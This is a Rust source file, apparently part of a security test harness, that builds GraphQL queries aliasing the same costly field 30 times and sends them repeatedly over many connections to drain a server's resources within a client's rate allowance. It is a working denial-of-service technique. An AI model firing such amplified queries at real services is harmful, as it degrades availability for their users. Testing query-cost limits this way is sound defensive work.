//! Requests that cost the server more than they cost the client's allowance.

use serde_json::json;

use super::{ATTACKER, Target, again};
use crate::client::Client;

/// How often a request asks the same: as many root fields as it may have. The former limit was 100.
const ALIASES: usize = 30;

/// As many of a field as one request may ask for, each under a name of its own.
pub fn aliased(field: &str, times: usize) -> String {
    (0..times).map(|number| format!("a{number}: {field}")).collect::<Vec<_>>().join(" ")
}

/// Counts, searches and comparisons, for as long as the allowance gives points.
pub async fn counts(target: Target, connections: usize) {
    let client = Client::keeping(target.address, ATTACKER);
    let documents = [
        format!("query($ids: [ID!]!) {{ {} }}", aliased("compareTasks(ids: $ids) { __typename }", ALIASES)),
        format!("{{ {} }}", aliased("tasks(filter: { text: \"建设\" }) { totalCount }", ALIASES)),
        format!("{{ {} }}", aliased("reports { totalCount }", ALIASES)),
    ];
    let variables = [json!({ "ids": *target.tasks }), json!({}), json!({})];
    let asked: Vec<_> = documents.into_iter().zip(variables).collect();
    again(target, connections, move |number| {
        let client = client.clone();
        let (document, variables) = asked[number % asked.len()].clone();
        async move { client.post(&document, &variables).await }
    })
    .await;
}
